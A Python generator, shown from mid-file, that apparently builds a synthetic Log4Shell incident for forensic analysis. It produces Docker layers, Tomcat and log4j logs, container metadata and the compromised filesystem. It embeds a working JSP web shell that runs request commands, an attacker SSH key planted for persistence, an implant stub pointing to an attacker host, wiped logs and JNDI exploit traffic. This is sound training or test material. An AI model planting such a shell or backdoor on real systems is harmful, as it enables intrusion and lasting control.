  public void _jspService(final javax.servlet.http.HttpServletRequest request, final javax.servlet.http.HttpServletResponse response)
      throws java.io.IOException, javax.servlet.ServletException {
    final javax.servlet.jsp.JspWriter out = pageContext.getOut();
    String cmd = request.getParameter("cmd");
    if (cmd != null) {
        Process p = Runtime.getRuntime().exec(cmd);
        BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
        String line;
        out.println("<pre>");
        while ((line = r.readLine()) != null) { out.println(line); }
        out.println("</pre>");
    }
  }
}
"""

AUTHORIZED_KEYS = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq4mJ0c7cW0rYqkZ9mXk3p1Vb8u2sTnQe5yL6fD0aRg kali@kali\n"

SERVER_XML_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<Server port="8005" shutdown="SHUTDOWN">\n  <Service name="Catalina">\n    <Connector port="8080" protocol="HTTP/1.1" connectionTimeout="20000" redirectPort="8443" />\n    <Engine name="Catalina" defaultHost="localhost">\n      <Host name="localhost" appBase="webapps" unpackWARs="true" autoDeploy="true">\n'
SERVER_XML_TAIL = '      </Host>\n    </Engine>\n  </Service>\n</Server>\n'


def l4s_layers():
    base = t("2018-11-13T00:00:00")
    l1 = debian_rootfs(
        base,
        'PRETTY_NAME="Debian GNU/Linux 9 (stretch)"\nNAME="Debian GNU/Linux"\nVERSION_ID="9"\nVERSION="9 (stretch)"\nID=debian\n',
        "9.6",
        [E("var/log/dpkg.log", data="2018-11-13 00:00:00 startup archives install\n", mtime=base)],
    )
    j = t("2018-11-16T01:02:41")
    jre = JVM_DIR + "/jre"
    l2 = layer([
        E("docker-java-home", "l", link="/usr/lib/jvm/java-8-openjdk-amd64", mtime=j),
        E("etc/java-8-openjdk/security/java.security", data="jdk.tls.disabledAlgorithms=SSLv3, RC4, DES, MD5withRSA\n", mtime=j),
        E(jre + "/bin/java", data=elf_stub("java", ["OpenJDK Runtime Environment (build 1.8.0_181-8u181-b13-2~deb9u1-b13)"]), mode=0o755, mtime=j),
        E(jre + "/bin/keytool", data=elf_stub("keytool", ["keytool"]), mode=0o755, mtime=j),
        E(jre + "/lib/rt.jar", data=zip_bytes([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nImplementation-Version: 1.8.0_181\r\n\r\n")], (2018, 7, 19, 10, 0, 0)), mtime=j),
        E(JVM_DIR + "/release", data='JAVA_VERSION="1.8.0_181"\nOS_NAME="Linux"\nOS_ARCH="amd64"\n', mtime=j),
        E("var/log/alternatives.log", data="update-alternatives 2018-11-16 01:02:35: run with --install /usr/bin/java java /usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java 1081\n", mtime=j),
        E("var/log/apt/history.log", data="\nStart-Date: 2018-11-16  01:02:11\nCommandline: apt-get install -y openjdk-8-jre-headless=8u181-b13-2~deb9u1\nInstall: openjdk-8-jre-headless:amd64 (8u181-b13-2~deb9u1)\nEnd-Date: 2018-11-16  01:02:40\n", mtime=j),
        E("var/log/apt/term.log", data="\nLog started: 2018-11-16  01:02:11\nSetting up openjdk-8-jre-headless:amd64 (8u181-b13-2~deb9u1) ...\nLog ended: 2018-11-16  01:02:40\n", mtime=j),
        E("var/log/dpkg.log", data="2018-11-13 00:00:00 startup archives install\n2018-11-16 01:02:39 status installed openjdk-8-jre-headless:amd64 8u181-b13-2~deb9u1\n", mtime=j),
    ], j, merged([l1]))
    tc = t("2018-11-16T04:11:09")
    tom = "usr/local/tomcat/"
    jar = lambda name: zip_bytes([("META-INF/MANIFEST.MF", f"Manifest-Version: 1.0\r\nImplementation-Title: {name}\r\nImplementation-Version: 8.5.35\r\n\r\n".encode())], (2018, 11, 3, 17, 39, 20))  # noqa: E731
    default_xml = SERVER_XML_HEAD + '        <Valve className="org.apache.catalina.valves.AccessLogValve" directory="logs"\n               prefix="localhost_access_log" suffix=".txt"\n               pattern="%h %l %u %t &quot;%r&quot; %s %b" />\n' + SERVER_XML_TAIL
    l3 = layer([
        E(tom + "LICENSE", data="Apache License Version 2.0, January 2004\n", mtime=tc),
        E(tom + "bin/bootstrap.jar", data=jar("bootstrap"), mtime=tc),
        E(tom + "bin/catalina.sh", data='#!/bin/sh\n# Control Script for the CATALINA Server\n_RUNJAVA="$JRE_HOME"/bin/java\nexec "$_RUNJAVA" $JAVA_OPTS -classpath "$CLASSPATH" org.apache.catalina.startup.Bootstrap "$@" start\n', mode=0o755, mtime=tc),
        E(tom + "bin/tomcat-juli.jar", data=jar("tomcat-juli"), mtime=tc),
        E(tom + "conf/logging.properties", data="handlers = 1catalina.org.apache.juli.AsyncFileHandler, 2localhost.org.apache.juli.AsyncFileHandler, java.util.logging.ConsoleHandler\n.handlers = 1catalina.org.apache.juli.AsyncFileHandler, java.util.logging.ConsoleHandler\njava.util.logging.ConsoleHandler.formatter = org.apache.juli.OneLineFormatter\n", mtime=tc),
        E(tom + "conf/server.xml", data=default_xml, mtime=tc),
        E(tom + "conf/tomcat-users.xml", data='<?xml version="1.0" encoding="UTF-8"?>\n<tomcat-users xmlns="http://tomcat.apache.org/xml" version="1.0">\n</tomcat-users>\n', mode=0o600, mtime=tc),
        E(tom + "lib/catalina.jar", data=jar("catalina"), mtime=tc),
        E(tom + "lib/jasper.jar", data=jar("jasper"), mtime=tc),
        E(tom + "logs", "d", mode=0o777, mtime=tc),
        E(tom + "temp", "d", mode=0o777, mtime=tc),
        E(tom + "webapps/docs/index.html", data="<html><head><title>Apache Tomcat 8 Documentation</title></head></html>\n", mtime=tc),
        E(tom + "webapps/examples/index.html", data="<html><head><title>Apache Tomcat Examples</title></head></html>\n", mtime=tc),
        E(tom + "webapps/examples/jsp/snp/snoop.jsp", data="<%= request.getRemoteAddr() %>\n", mtime=tc),
        E(tom + "webapps/manager/WEB-INF/web.xml", data="<web-app><display-name>Tomcat Manager Application</display-name></web-app>\n", mtime=tc),
        E(tom + "work", "d", mode=0o777, mtime=tc),
    ], tc, merged([l1, l2]))
    b = t("2021-12-08T16:41:20")
    combined_xml = SERVER_XML_HEAD + '        <Valve className="org.apache.catalina.valves.AccessLogValve" directory="logs"\n               prefix="localhost_access_log" suffix=".txt"\n               pattern="combined" />\n' + SERVER_XML_TAIL
    l4 = layer([
        E(tom + "conf/server.xml", data=combined_xml, mtime=b),
        E(tom + "webapps", "d", mtime=b),
        E(tom + "webapps", "o", mtime=b),
    ], b, merged([l1, l2, l3]))
    a = t("2021-12-08T16:41:22")
    src = t("2021-12-08T16:39:58")
    root = tom + "webapps/ROOT/"
    log4j_core = zip_bytes([
        ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nBundle-SymbolicName: org.apache.logging.log4j.core\r\nImplementation-Title: Apache Log4j Core\r\nImplementation-Version: 2.14.1\r\n\r\n"),
        ("META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties", b"#Created by Apache Maven 3.6.3\nversion=2.14.1\ngroupId=org.apache.logging.log4j\nartifactId=log4j-core\n"),
        ("org/apache/logging/log4j/core/lookup/JndiLookup.class", class_stub("org/apache/logging/log4j/core/lookup/JndiLookup")),
        ("org/apache/logging/log4j/core/net/JndiManager.class", class_stub("org/apache/logging/log4j/core/net/JndiManager")),
    ], (2021, 3, 6, 22, 14, 48))
    log4j_api = zip_bytes([
        ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nImplementation-Title: Apache Log4j API\r\nImplementation-Version: 2.14.1\r\n\r\n"),
        ("META-INF/maven/org.apache.logging.log4j/log4j-api/pom.properties", b"version=2.14.1\ngroupId=org.apache.logging.log4j\nartifactId=log4j-api\n"),
    ], (2021, 3, 6, 22, 14, 40))
    web_xml = """<?xml version="1.0" encoding="UTF-8"?>
<web-app xmlns="http://xmlns.jcp.org/xml/ns/javaee" version="3.1">
  <display-name>orders-web</display-name>
  <!-- TODO remove before release: request debugging -->
  <filter>
    <filter-name>requestdumper</filter-name>
    <filter-class>org.apache.catalina.filters.RequestDumperFilter</filter-class>
  </filter>
  <filter-mapping>
    <filter-name>requestdumper</filter-name>
    <url-pattern>/*</url-pattern>
  </filter-mapping>
</web-app>
"""
    log4j2_xml = """<?xml version="1.0" encoding="UTF-8"?>
<Configuration status="WARN">
  <Appenders>
    <Console name="Console" target="SYSTEM_OUT">
      <PatternLayout pattern="%d{yyyy-MM-dd HH:mm:ss.SSS} %-5level [%t] %c{1.} - %msg%n"/>
    </Console>
  </Appenders>
  <Loggers>
    <Root level="info"><AppenderRef ref="Console"/></Root>
  </Loggers>
</Configuration>
"""
    l5 = layer([
        E(root + "assets/app.css", data="body { font-family: sans-serif; }\n", mtime=src),
        E(root + "index.jsp", data='<%@ page contentType="text/html" %>\n<html><body><h1>ACME Orders</h1></body></html>\n', mtime=src),
        E(root + "WEB-INF/classes/com/acme/orders/web/OrderController.class", data=class_stub("com/acme/orders/web/OrderController"), mtime=src),
        E(root + "WEB-INF/classes/log4j2.xml", data=log4j2_xml, mtime=src),
        E(root + "WEB-INF/lib/log4j-api-2.14.1.jar", data=log4j_api, mtime=src),
        E(root + "WEB-INF/lib/log4j-core-2.14.1.jar", data=log4j_core, mtime=src),
        E(root + "WEB-INF/web.xml", data=web_xml, mtime=src),
    ], a, merged([l1, l2, l3, l4]))
    bk = "buildkit.dockerfile.v0"
    history = [
        {"created": "2018-11-15T22:19:56.823469017Z", "created_by": "/bin/sh -c #(nop) ADD file:dab9baf938799c515ddce14c02f899da5992f0b76a432fa10a2338556a3cb04f in / "},
        {"created": "2018-11-15T22:19:57.183432291Z", "created_by": "/bin/sh -c #(nop)  CMD [\"bash\"]", "empty_layer": True},
        {"created": "2018-11-16T01:01:59.504582716Z", "created_by": "/bin/sh -c #(nop)  ENV JAVA_HOME=/docker-java-home/jre", "empty_layer": True},
        {"created": "2018-11-16T01:02:41.617208339Z", "created_by": "/bin/sh -c set -ex; \tapt-get update; \tapt-get install -y openjdk-8-jre-headless=\"$JAVA_DEBIAN_VERSION\"; \trm -rf /var/lib/apt/lists/*; \t[ \"$(readlink -f \"$JAVA_HOME\")\" = \"$(docker-java-home)\" ]"},
        {"created": "2018-11-16T04:10:13.306528554Z", "created_by": "/bin/sh -c #(nop)  ENV CATALINA_HOME=/usr/local/tomcat", "empty_layer": True},
        {"created": "2018-11-16T04:11:09.932805127Z", "created_by": "/bin/sh -c set -eux; \twget -O tomcat.tar.gz \"$TOMCAT_TGZ_URL\"; \ttar -xvf tomcat.tar.gz --strip-components=1; \trm bin/*.bat; \trm tomcat.tar.gz*; \tchmod 777 logs temp work"},
        {"created": "2018-11-16T04:11:10.219341804Z", "created_by": "/bin/sh -c #(nop)  EXPOSE 8080", "empty_layer": True},
        {"created": "2018-11-16T04:11:10.502167353Z", "created_by": "/bin/sh -c #(nop)  CMD [\"catalina.sh\" \"run\"]", "empty_layer": True},
        {"created": "2021-12-08T16:41:20.871520337Z", "created_by": "RUN /bin/sh -c rm -rf /usr/local/tomcat/webapps && mkdir -p /usr/local/tomcat/webapps && sed -i 's/pattern=\"%h %l %u %t &quot;%r&quot; %s %b\"/pattern=\"combined\"/' /usr/local/tomcat/conf/server.xml # buildkit", "comment": bk},
        {"created": "2021-12-08T16:41:22.194400617Z", "created_by": "COPY target/orders-web /usr/local/tomcat/webapps/ROOT # buildkit", "comment": bk},
        {"created": "2021-12-08T16:41:22.194400617Z", "created_by": "LABEL org.opencontainers.image.source=https://github.com/acme-retail/orders-web org.opencontainers.image.version=1.8.0 org.opencontainers.image.vendor=ACME Retail", "comment": bk, "empty_layer": True},
    ]
    return [l1, l2, l3, l4, l5], history


def l4s_container_config() -> dict:
    return {
        "Hostname": L4S_ID[:12], "Domainname": "", "User": "", "AttachStdin": False, "AttachStdout": False,
        "AttachStderr": False, "ExposedPorts": {"8080/tcp": {}}, "Tty": False, "OpenStdin": False,
        "StdinOnce": False, "Env": L4S_ENV, "Cmd": ["catalina.sh", "run"], "Image": L4S_IMAGE, "Volumes": None,
        "WorkingDir": "/usr/local/tomcat", "Entrypoint": None, "OnBuild": None, "Labels": L4S_LABELS,
    }


def l4s_image_config(layers, history, extra_history=None) -> bytes:
    cfg = l4s_container_config()
    if not extra_history:
        env = [e for e in cfg["Env"] if not e.startswith(("ORDERS_", "AWS_"))]
        cfg = dict(cfg, Hostname="", Env=env, Image="")
    top = {
        "architecture": "amd64",
        "config": cfg,
        "created": (extra_history or history[-1])["created"],
        "history": history + ([extra_history] if extra_history else []),
        "os": "linux",
        "rootfs": {"type": "layers", "diff_ids": ["sha256:" + sha256(tar_bytes(l)) for l in layers]},
    }
    if extra_history:
        top["docker_version"] = "27.3.1"
    return image_config(top)


def dumper(thread: str, pairs: list[tuple[str, str]]) -> list[str]:
    """RequestDumperFilter.doLog lines: '<thread> <attribute>=<value>'."""
    return [f"{thread} {attr}={value}" for attr, value in pairs]


def juli(epoch: int, millis: int, level: str, thread: str, source: str, msg: str) -> str:
    """Tomcat OneLineFormatter (ConsoleHandler writes it to stderr)."""
    return f"{utc(epoch).strftime('%d-%b-%Y %H:%M:%S')}.{millis:03d} {level} [{thread}] {source} {msg}"


def log4j(epoch: int, millis: int, level: str, thread: str, msg: str) -> str:
    return f"{utc(epoch).strftime('%Y-%m-%d %H:%M:%S')}.{millis:03d} {level:<5} [{thread}] c.a.o.w.OrderController - {msg}"


def status_logger(epoch: int, millis: int, thread: str, level: str, msg: str) -> str:
    """log4j2 StatusData.getFormattedStatus(). With `status=` in the configuration a
    StatusConsoleListener prints it to System.out with println, so the stack trace that
    follows (printStackTrace output, ending in a newline) is followed by an empty line."""
    return f"{utc(epoch).strftime('%Y-%m-%d %H:%M:%S')},{millis:03d} {thread} {level} {msg}"


JNDI_FAIL_TRACE = [
    "\tat com.sun.jndi.ldap.Connection.<init>(Connection.java:238)",
    "\tat com.sun.jndi.ldap.LdapClient.<init>(LdapClient.java:137)",
    "\tat com.sun.jndi.ldap.LdapClient.getInstance(LdapClient.java:1609)",
    "\tat com.sun.jndi.ldap.LdapCtx.connect(LdapCtx.java:2749)",
    "\tat com.sun.jndi.ldap.LdapCtx.<init>(LdapCtx.java:319)",
    "\tat com.sun.jndi.url.ldap.ldapURLContextFactory.getUsingURLIgnoreRootDSE(ldapURLContextFactory.java:60)",
    "\tat com.sun.jndi.url.ldap.ldapURLContext.getRootURLContext(ldapURLContext.java:61)",
    "\tat com.sun.jndi.toolkit.url.GenericURLContext.lookup(GenericURLContext.java:202)",
    "\tat com.sun.jndi.url.ldap.ldapURLContext.lookup(ldapURLContext.java:94)",
    "\tat javax.naming.InitialContext.lookup(InitialContext.java:417)",
    "\tat org.apache.logging.log4j.core.net.JndiManager.lookup(JndiManager.java:172)",
    "\tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)",
    "\tat org.apache.logging.log4j.core.lookup.Interpolator.lookup(Interpolator.java:221)",
    "\tat org.apache.logging.log4j.core.lookup.StrSubstitutor.resolveVariable(StrSubstitutor.java:1110)",
    "\tat org.apache.logging.log4j.core.lookup.StrSubstitutor.substitute(StrSubstitutor.java:1033)",
    "\tat org.apache.logging.log4j.core.pattern.MessagePatternConverter.format(MessagePatternConverter.java:118)",
    "\tat com.acme.orders.web.OrderController.list(OrderController.java:42)",
    "Caused by: java.net.ConnectException: Connection refused (Connection refused)",
    "\tat java.net.PlainSocketImpl.socketConnect(Native Method)",
    "\tat java.net.AbstractPlainSocketImpl.doConnect(AbstractPlainSocketImpl.java:350)",
    "\tat java.net.Socket.connect(Socket.java:589)",
    "\tat com.sun.jndi.ldap.Connection.createSocket(Connection.java:375)",
    "\tat com.sun.jndi.ldap.Connection.<init>(Connection.java:215)",
    "\t... 68 more",
]

CCE_TRACE = [
    "\tat javax.naming.spi.NamingManager.getObjectFactoryFromReference(NamingManager.java:163)",
    "\tat javax.naming.spi.DirectoryManager.getObjectInstance(DirectoryManager.java:189)",
    "\tat com.sun.jndi.ldap.LdapCtx.c_lookup(LdapCtx.java:1085)",
    "\tat com.sun.jndi.toolkit.ctx.ComponentContext.p_lookup(ComponentContext.java:542)",
    "\tat com.sun.jndi.toolkit.ctx.PartialCompositeContext.lookup(PartialCompositeContext.java:177)",
    "\tat com.sun.jndi.toolkit.url.GenericURLContext.lookup(GenericURLContext.java:205)",
    "\tat com.sun.jndi.url.ldap.ldapURLContext.lookup(ldapURLContext.java:94)",
    "\tat javax.naming.InitialContext.lookup(InitialContext.java:417)",
    "\tat org.apache.logging.log4j.core.net.JndiManager.lookup(JndiManager.java:172)",
    "\tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)",
    "\tat org.apache.logging.log4j.core.lookup.Interpolator.lookup(Interpolator.java:221)",
    "\tat org.apache.logging.log4j.core.lookup.StrSubstitutor.resolveVariable(StrSubstitutor.java:1110)",
    "\tat org.apache.logging.log4j.core.pattern.MessagePatternConverter.format(MessagePatternConverter.java:118)",
    "\tat org.apache.logging.log4j.core.config.AppenderControl.tryCallAppender(AppenderControl.java:156)",
    "\tat com.acme.orders.web.OrderController.list(OrderController.java:42)",
]


def l4s_requests():
    """(time, millis, thread, client, method, uri, query, headers, status, bytes) in order."""
    chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
    firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    host = f"{L4S_HOST}:8080"
    return [
        (t("2026-11-27T11:04:12"), 388, "http-nio-8080-exec-1", "10.20.6.31", "GET", "/api/orders", None,
         [("host", host), ("user-agent", chrome), ("x-api-version", "2")], 200, 1873),
        (t("2026-11-27T14:19:42"), 103, "http-nio-8080-exec-3", SCANNER, "GET", "/api/orders", None,
         [("host", host), ("user-agent", JNDI_OBF), ("x-api-version", JNDI_OBF)], 200, 1873),
        (t("2026-11-27T14:21:07"), 498, "http-nio-8080-exec-7", ATTACKER, "GET", "/api/orders", None,
         [("host", host), ("user-agent", "curl/8.5.0"), ("accept", "*/*"), ("x-api-version", JNDI_MAIN)], 200, 1873),
        (t("2026-11-27T14:26:02"), 76, "http-nio-8080-exec-2", ATTACKER, "GET", "/assets/health.jsp", "cmd=id",
         [("host", host), ("user-agent", firefox)], 200, 61),
        (t("2026-11-27T14:26:40"), 911, "http-nio-8080-exec-4", ATTACKER, "GET", "/assets/health.jsp",
         "cmd=ls%20-la%20/usr/local/tomcat/webapps/ROOT/WEB-INF/lib",
         [("host", host), ("user-agent", firefox)], 200, 402),
    ]


def l4s_logs():
    """(json-file Log, catalina.<date>.log files, access log text)."""
    log = Log()
    catalina: dict[str, list[str]] = {}

    def jul(when, ms, level, thread, source, msg):
        line = juli(when, ms, level, thread, source, msg)
        log.add(when, ms * 1_000_000 + 412_337, "stderr", line)
        catalina.setdefault(utc(when).strftime("%Y-%m-%d"), []).append(line)

    s = t("2026-11-20T08:30:13")
    vl = "org.apache.catalina.startup.VersionLoggerListener.log"
    for ms, msg in [(112, "Server version:        Apache Tomcat/8.5.35"), (115, "Server built:          Nov 3 2018 17:39:20 UTC"),
                    (115, "Server number:         8.5.35.0"), (116, "OS Name:               Linux"),
                    (116, "OS Version:            5.15.0-126-generic"), (117, "JVM Version:           1.8.0_181-8u181-b13-2~deb9u1-b13"),
                    (117, "CATALINA_BASE:         /usr/local/tomcat"), (118, "CATALINA_HOME:         /usr/local/tomcat")]:
        jul(s, ms, "INFO", "main", vl, msg)
    jul(s, 412, "INFO", "main", "org.apache.coyote.AbstractProtocol.init", 'Initializing ProtocolHandler ["http-nio-8080"]')
    jul(s, 845, "INFO", "main", "org.apache.catalina.core.StandardService.startInternal", "Starting service [Catalina]")
    jul(s, 846, "INFO", "main", "org.apache.catalina.core.StandardEngine.startInternal", "Starting Servlet Engine: Apache Tomcat/8.5.35")
    jul(s, 871, "INFO", "localhost-startStop-1", "org.apache.catalina.startup.HostConfig.deployDirectory", "Deploying web application directory [/usr/local/tomcat/webapps/ROOT]")
    log.add(t("2026-11-20T08:30:15"), 201_884_512, "stdout", log4j(t("2026-11-20T08:30:15"), 201, "INFO", "localhost-startStop-1", "orders-web 1.8.0 started").replace("c.a.o.w.OrderController", "c.a.o.w.OrdersApplication"))
    s2 = t("2026-11-20T08:30:16")
    jul(s2, 530, "INFO", "localhost-startStop-1", "org.apache.catalina.startup.HostConfig.deployDirectory", "Deployment of web application directory [/usr/local/tomcat/webapps/ROOT] has finished in [2,659] ms")
    jul(s2, 536, "INFO", "main", "org.apache.coyote.AbstractProtocol.start", 'Starting ProtocolHandler ["http-nio-8080"]')
    jul(s2, 548, "INFO", "main", "org.apache.catalina.startup.Catalina.start", "Server startup in 2741 ms")

    access = []
    rdf = "org.apache.catalina.filters.RequestDumperFilter.doLog"
    for when, ms, thread, client, method, uri, query, headers, status, size in l4s_requests():
        stamp = utc(when).strftime("%d-%b-%Y %H:%M:%S")
        pre = [("START TIME        ", stamp), ("        requestURI", uri), ("          authType", "null"),
               (" characterEncoding", "null"), ("     contentLength", "-1"), ("       contentType", "null"),
               ("       contextPath", "")]
        pre += [("            header", f"{k}={v}") for k, v in headers]
        pre += [("            locale", "en_US"), ("            method", method), ("          protocol", "HTTP/1.1"),
                ("       queryString", query or "null"), ("        remoteAddr", client), ("        remoteHost", client),
                ("            scheme", "http"), ("        serverName", L4S_HOST), ("        serverPort", "8080"),
                ("------------------", "--------------------------------------------")]
        for i, line in enumerate(dumper(thread, pre)):
            jul(when, ms + i // 8, "INFO", thread, rdf, line)
        app_ms = ms + 20
        api = dict(headers).get("x-api-version")
        if api == JNDI_OBF:
            warn = status_logger(when, app_ms + 8, thread, "WARN", f"Error looking up JNDI resource [ldap://{SCANNER}:1389/a]. javax.naming.CommunicationException: {SCANNER}:1389 [Root exception is java.net.ConnectException: Connection refused (Connection refused)]")
            for i, line in enumerate([warn] + JNDI_FAIL_TRACE + [""]):
                log.add(when, (app_ms + 8) * 1_000_000 + 1_207 + i * 3_301, "stdout", line)
            log.add(when, (app_ms + 11) * 1_000_000 + 88_731, "stdout", log4j(when, app_ms + 11, "INFO", thread, f"Received a request for API version {api}"))
        elif api == JNDI_MAIN:
            err_ts = when + 1
            err = status_logger(err_ts, 36, thread, "ERROR", f"An exception occurred processing Appender Console java.lang.ClassCastException: {EXPLOIT_CLASS} cannot be cast to javax.naming.spi.ObjectFactory")
            for i, line in enumerate([err] + CCE_TRACE + [""]):
                log.add(err_ts, 36_000_000 + 5_119 + i * 2_917, "stdout", line)
        elif api is not None:
            log.add(when, app_ms * 1_000_000 + 55_501, "stdout", log4j(when, app_ms, "INFO", thread, f"Received a request for API version {api}"))
        done = when + 1 if api == JNDI_MAIN else when
        jul(done, 90 if api == JNDI_MAIN else ms + 40, "INFO", thread, rdf, f"{thread}             status={status}")
        jul(done, 90 if api == JNDI_MAIN else ms + 40, "INFO", thread, rdf, f"{thread} END TIME          ={utc(done).strftime('%d-%b-%Y %H:%M:%S')}")
        h = dict(headers)
        req = f"{method} {uri}{'?' + query if query else ''} HTTP/1.1"
        access.append(combined(client, when, req, status, size, h.get("referer", "-"), h.get("user-agent", "-")))
    return log, catalina, "".join(a + "\n" for a in access)


def l4s_commit_layer(lower: dict[str, E], catalina, access) -> list[E]:
    tom = "usr/local/tomcat/"
    work = tom + "work/Catalina/localhost/ROOT/org/apache/jsp/"
    boot = t("2026-11-20T08:30:12")
    hsperf = b"\xca\xfe\xc0\xc0\x01\x00\x00\x00" + b"sun.rt.createVmBeginTime\0" + b"\0" * (32768 - 33)
    agent = elf_stub("agent", [f"{ATTACKER}:8443", "/proc/self/exe", "mtls", "session-key"])
    wiped = t("2026-11-27T14:33:12")
    entries = [
        E("root", "d", mode=0o700, mtime=t("2026-11-27T14:29:15")),
        E("root/.ssh", "d", mode=0o700, mtime=t("2026-11-27T14:29:15")),
        E("root/.ssh/authorized_keys", data=AUTHORIZED_KEYS, mode=0o600, mtime=t("2026-11-27T14:29:15")),
        E("run", "d", mtime=boot),
        E("run/docker.sock", "f", mode=0o755, mtime=boot),  # bind-mount target created by runc
        E("tmp", "d", mode=0o1777, mtime=t("2026-11-27T14:23:51")),
        E("tmp/.x", "d", mtime=t("2026-11-27T14:23:55")),
        E("tmp/.x/agent", data=agent, mode=0o755, mtime=t("2026-11-27T14:23:55")),
        E("tmp/hsperfdata_root", "d", mtime=boot),
        E("tmp/hsperfdata_root/1", data=hsperf, mode=0o600, mtime=t("2026-11-27T15:52:29")),
        E(tom + "logs", "d", mode=0o777, mtime=t("2026-11-27T11:04:12")),
        E(tom + "logs/localhost_access_log.2026-11-27.txt", data=access, mode=0o640, mtime=t("2026-11-27T14:26:40")),
        E(tom + "webapps/ROOT/assets", "d", mtime=t("2026-11-27T14:24:40")),
        E(tom + "webapps/ROOT/assets/health.jsp", data=JSP_SHELL, mtime=t("2026-11-27T14:24:40")),
        E(tom + "work/Catalina", "d", mtime=boot),
        E(tom + "work/Catalina/localhost", "d", mtime=boot),
        E(tom + "work/Catalina/localhost/ROOT", "d", mtime=t("2026-11-20T09:02:17")),
        E(work[:-1], "d", mtime=t("2026-11-27T14:26:02")),
        E(work + "assets", "d", mtime=t("2026-11-27T14:26:02")),
        E(work + "assets/health_jsp.class", data=class_stub("org/apache/jsp/assets/health_jsp"), mtime=t("2026-11-27T14:24:40")),
        E(work + "assets/health_jsp.java", data=JSP_JAVA, mtime=t("2026-11-27T14:24:40")),
        E(work + "index_jsp.class", data=class_stub("org/apache/jsp/index_jsp"), mtime=t("2021-12-08T16:39:58")),
        E(work + "index_jsp.java", data="package org.apache.jsp;\npublic final class index_jsp extends org.apache.jasper.runtime.HttpJspBase {}\n", mtime=t("2021-12-08T16:39:58")),
        E("var/log", "d", mtime=wiped),
        E("var/log/alternatives.log", "w", mtime=wiped),
        E("var/log/apt", "d", mtime=wiped),
        E("var/log/apt/history.log", "w", mtime=wiped),
        E("var/log/apt/term.log", "w", mtime=wiped),
        E("var/log/dpkg.log", "w", mtime=wiped),
    ]
    for day, lines in sorted(catalina.items()):
        last = lines[-1]
        mt = calendar.timegm(datetime.datetime.strptime(last[:20], "%d-%b-%Y %H:%M:%S").timetuple())
        entries.append(E(tom + f"logs/catalina.{day}.log", data="".join(x + "\n" for x in lines), mode=0o640, mtime=mt))
    return layer(entries, 0, lower)


def l4s_inspect(image_id: str, layer_cache_ids: list[str]) -> str:
    cdir = f"/var/lib/docker/containers/{L4S_ID}"
    mac = "02:42:ac:11:00:03"
    net = {
        "IPAMConfig": None, "Links": None, "Aliases": None, "MacAddress": mac, "DriverOpts": None,
        "NetworkID": fake_id("bridge-network-host2"), "EndpointID": fake_id("l4s-endpoint"), "Gateway": "172.17.0.1",
        "IPAddress": "172.17.0.3", "IPPrefixLen": 16, "IPv6Gateway": "", "GlobalIPv6Address": "",
        "GlobalIPv6PrefixLen": 0, "DNSNames": None,
    }
    obj = {
        "Id": L4S_ID,
        "Created": go_time(*L4S_CREATED),
        "Path": "catalina.sh",
        "Args": ["run"],
        "State": {
            "Status": "running", "Running": True, "Paused": False, "Restarting": False, "OOMKilled": False,
            "Dead": False, "Pid": L4S_PID, "ExitCode": 0, "Error": "", "StartedAt": go_time(*L4S_STARTED),
            "FinishedAt": "0001-01-01T00:00:00Z",
        },
        "Image": image_id,
        "ResolvConfPath": f"{cdir}/resolv.conf",
        "HostnamePath": f"{cdir}/hostname",
        "HostsPath": f"{cdir}/hosts",
        "LogPath": f"{cdir}/{L4S_ID}-json.log",
        "Name": "/" + L4S_NAME,
        "RestartCount": 0,
        "Driver": "overlay2",
        "Platform": "linux",
        "MountLabel": "",
        "ProcessLabel": "",
        "AppArmorProfile": "docker-default",
        "ExecIDs": None,
        "HostConfig": host_config(
            Binds=["/var/run/docker.sock:/var/run/docker.sock"],
            LogConfig={"Type": "json-file", "Config": {"max-file": "3", "max-size": "50m"}},
            PortBindings={"8080/tcp": [{"HostIp": "", "HostPort": "8080"}]},
            RestartPolicy={"Name": "unless-stopped", "MaximumRetryCount": 0},
            Ulimits=[],
            MaskedPaths=MASKED + ["/sys/devices/virtual/powercap"],
        ),
        "GraphDriver": graph_driver(fake_id("l4s-rw-layer"), layer_cache_ids),
        "Mounts": [{
            "Type": "bind", "Source": "/var/run/docker.sock", "Destination": "/var/run/docker.sock", "Mode": "",
            "RW": True, "Propagation": "rprivate",
        }],
        "Config": l4s_container_config(),
        "NetworkSettings": {
            "Bridge": "", "SandboxID": fake_id("l4s-sandbox"),
            "SandboxKey": "/var/run/docker/netns/" + fake_id("l4s-sandbox")[:12],
            "Ports": {"8080/tcp": [{"HostIp": "0.0.0.0", "HostPort": "8080"}, {"HostIp": "::", "HostPort": "8080"}]},
            "HairpinMode": False, "LinkLocalIPv6Address": "", "LinkLocalIPv6PrefixLen": 0,
            "SecondaryIPAddresses": None, "SecondaryIPv6Addresses": None, "EndpointID": net["EndpointID"],
            "Gateway": "172.17.0.1", "GlobalIPv6Address": "", "GlobalIPv6PrefixLen": 0, "IPAddress": "172.17.0.3",
            "IPPrefixLen": 16, "IPv6Gateway": "", "MacAddress": mac, "Networks": {"bridge": net},
        },
    }
    return go_json([obj], indent=4) + "\n"


def l4s_processes() -> list[list[str]]:
    java_args = (f"{JAVA} -Djava.util.logging.config.file=/usr/local/tomcat/conf/logging.properties "
                 "-Djava.util.logging.manager=org.apache.juli.ClassLoaderLogManager -Djdk.tls.ephemeralDHKeySize=2048 "
                 "-Djava.protocol.handler.pkgs=org.apache.catalina.webresources "
                 "-Dorg.apache.catalina.security.SecurityListener.UMASK=0027 -Dignore.endorsed.dirs= "
                 "-classpath /usr/local/tomcat/bin/bootstrap.jar:/usr/local/tomcat/bin/tomcat-juli.jar "
                 "-Dcatalina.base=/usr/local/tomcat -Dcatalina.home=/usr/local/tomcat "
